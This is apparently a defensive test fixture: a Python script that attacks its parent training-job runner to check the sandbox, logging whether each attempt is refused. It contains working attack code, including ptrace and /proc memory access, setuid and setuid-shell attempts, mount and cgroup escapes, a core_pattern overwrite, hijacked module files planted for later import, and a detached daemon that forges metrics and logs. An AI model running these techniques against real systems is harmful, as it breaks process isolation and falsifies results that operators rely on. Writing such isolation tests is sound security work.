"""Training code that attacks the entrypoint. Nothing may be of use, and what it plants must stay without effect.

Each way answers `refused…`, or says what it got. Standard library only.
"""

import ctypes
import json
import os
import resource
import signal
import sys
import time
from collections.abc import Callable
from pathlib import Path

ENTRYPOINT = os.getppid()
OUTPUT = Path(os.environ.get("OUTPUT_DIR", "."))
LIBC = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE = 16, 0x4206
PIDFD_OPEN, PIDFD_GETFD, KCMP = 434, 438, 312
PLANTED = """import os
with open({marker!r}, "a") as file:
    file.write(f"{{__name__}} as {{os.geteuid()}}\\n")
raise ImportError
"""


def system(result: int, what: str) -> str:
    """Judge a call of libc's."""
    return what if result != -1 else f"refused: {os.strerror(ctypes.get_errno())}"


def remote_memory() -> str:
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(64)
    here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
    there = Vector(ctypes.c_void_p(0x400000), 64)
    return system(LIBC.process_vm_readv(ENTRYPOINT, ctypes.byref(here), 1, ctypes.byref(there), 1, 0), "its memory")


def its_file(number: int) -> str:
    pidfd = LIBC.syscall(PIDFD_OPEN, ENTRYPOINT, 0)
    return system(LIBC.syscall(PIDFD_GETFD, pidfd, number, 0), "a file that it has open")


def own_files() -> str:
    """Descriptors that it left open for its command."""
    found = [path for path in Path("/proc/self/fd").iterdir() if path.name not in ("0", "1", "2")]
    kept = [f"{path.name}: {path.readlink()}" for path in found if path.is_symlink()]
    return f"{kept}" if kept else "refused: none is left open"


def sent(number: int) -> str:
    os.kill(ENTRYPOINT, number)
    return f"signal {number} sent"


def everybody() -> str:
    """Signal all that may be signalled. It ends nobody: SIGCONT."""
    os.kill(-1, signal.SIGCONT)
    return "refused: whoever could be signalled is of this user"


def written(path: str) -> str:
    with Path(path).open("r+b") as file:
        file.write(b"x")
    return f"wrote to {path}"


def code_of_the_entrypoint() -> str:
    import trainer  # noqa: PLC0415

    return written(trainer.__file__)


def its_limits() -> str:
    resource.prlimit(ENTRYPOINT, resource.RLIMIT_NOFILE, (3, 3))
    return "its limits are changed"


def its_priority() -> str:
    os.setpriority(os.PRIO_PROCESS, ENTRYPOINT, 19)
    return "its priority is changed"


def its_cores() -> str:
    os.sched_setaffinity(ENTRYPOINT, {0})
    return "its cores are changed"


def another_user(number: int) -> str:
    os.setuid(number)
    return f"now {number}"


def new_device() -> str:
    os.mknod(OUTPUT / "device", 0o666 | 0o060000, os.makedev(8, 0))
    return "a block device"


def setuid_shell() -> str:
    """A program with the setuid bit is this user's own, and gives no rights."""
    program = OUTPUT / "shell"
    program.write_bytes(Path("/bin/sh").read_bytes())
    program.chmod(0o4755)
    return "owned by root" if program.stat().st_uid == 0 else "refused: it is this user's own"


def hard_link(target: str) -> str:
    os.link(target, OUTPUT / "hard.txt")
    return "a hard link to a file of root"


def mounted() -> str:
    return system(LIBC.mount(b"none", str(OUTPUT).encode(), b"tmpfs", 0, None), "a mount")


def traced(request: int) -> str:
    return system(LIBC.ptrace(request, ENTRYPOINT, 0, 0), "traced")


def cgroup() -> str:
    for path in Path("/sys/fs/cgroup").rglob("cgroup.procs"):
        path.write_text(str(ENTRYPOINT))
        return f"moved it to {path}"
    raise FileNotFoundError("no cgroups here")


def core_dump() -> str:
    Path("/proc/sys/kernel/core_pattern").write_text("|/tmp/x")
    return "a program for core dumps"


def read(path: str) -> str:
    return Path(path).read_bytes().decode(errors="replace") or "refused: empty"


def ways(root_only: str) -> dict[str, Callable[[], str]]:
    proc = f"/proc/{ENTRYPOINT}"
    return {
        "files left open": own_files,
        **{
            f"read {name}": lambda name=name: read(f"{proc}/{name}")
            for name in ("environ", "mem", "maps", "io", "stack")
        },
        **{f"write {name}": lambda name=name: written(f"{proc}/{name}") for name in ("mem", "oom_score_adj", "comm")},
        **{f"open its file {n}": lambda n=n: read(f"{proc}/fd/{n}") for n in range(3)},
        **{
            f"signal {n}": lambda n=n: sent(n) for n in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGUSR1)
        },
        "ptrace attach": lambda: traced(ATTACH),
        "ptrace seize": lambda: traced(SEIZE),
        "process_vm_readv": remote_memory,
        "pidfd_getfd": lambda: its_file(0),
        "kcmp": lambda: system(LIBC.syscall(KCMP, ENTRYPOINT, os.getpid(), 1, 0, 0), "compared"),
        "signal everybody": everybody,
        "write the entrypoint's code": code_of_the_entrypoint,
        "write its interpreter": lambda: written(os.path.realpath(sys.executable)),
        "prlimit": its_limits,
        "setpriority": its_priority,
        "sched_setaffinity": its_cores,
        "setuid 0": lambda: another_user(0),
        "setuid of the fetching user": lambda: another_user(int(os.environ["SIGNALBOX_FETCH_UID"])),
        "a device": new_device,
        "a setuid program": setuid_shell,
        "a hard link": lambda: hard_link(root_only),
        "a mount": mounted,
        "cgroup": cgroup,
        "core_pattern": core_dump,
    }


def tried(way: Callable[[], str]) -> str:
    try:
        return way()
    except OSError as error:
        return f"refused: {type(error).__name__}"


def plant_modules(folder: Path, marker: str) -> None:
    """Modules that the entrypoint may import later, in the folder that it was started in."""
    for name in sorted(
        {
            *sys.stdlib_module_names,
            "brotli",
            "brotlicffi",
            "zstandard",
            "socks",
            "awscrt",
            "sitecustomize",
            "boto3",
            "s3transfer",
        }
    ):
        (folder / f"{name}.py").write_text(PLANTED.format(marker=marker))


def leave_a_daemon(until: Path) -> None:
    """A process that outlives the command, and then changes its results and its log."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    end = time.monotonic() + 30
    while time.monotonic() < end:
        (OUTPUT / "metrics.csv").write_text("epoch,train_loss\n1,0.0\n")
        sys.stdout.write('@metrics {"epoch": 1, "train_loss": 0.0}\n')
        sys.stdout.flush()
        until.write_text(str(os.getpid()))
        time.sleep(0.02)
    os._exit(0)


def main(root_only: str, planted: str, marker: str) -> None:
    found = {name: tried(way) for name, way in ways(root_only).items()}
    (OUTPUT / "found.json").write_text(json.dumps(found))
    for name in ("maps", "status", "fd/0", "fd/1", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "cwd/work"):
        (OUTPUT / f"link-{name.replace('/', '-')}").symlink_to(f"/proc/self/{name}")
    (OUTPUT / "metrics.csv").write_text("epoch,train_loss\n1,0.5\n2,0.25\n")
    started = Path(marker).with_name("daemon")
    leave_a_daemon(started)
    while not started.exists():
        time.sleep(0.01)
    (OUTPUT / "metrics.csv").write_text("epoch,train_loss\n1,0.5\n2,0.25\n")
    plant_modules(Path(planted), marker)
    with (OUTPUT / "large.bin").open("wb") as file:
        file.truncate(64 * 1024 * 1024)  # the entrypoint loads what uploads in parts when the first such file comes


if __name__ == "__main__":
    main(*sys.argv[1:])
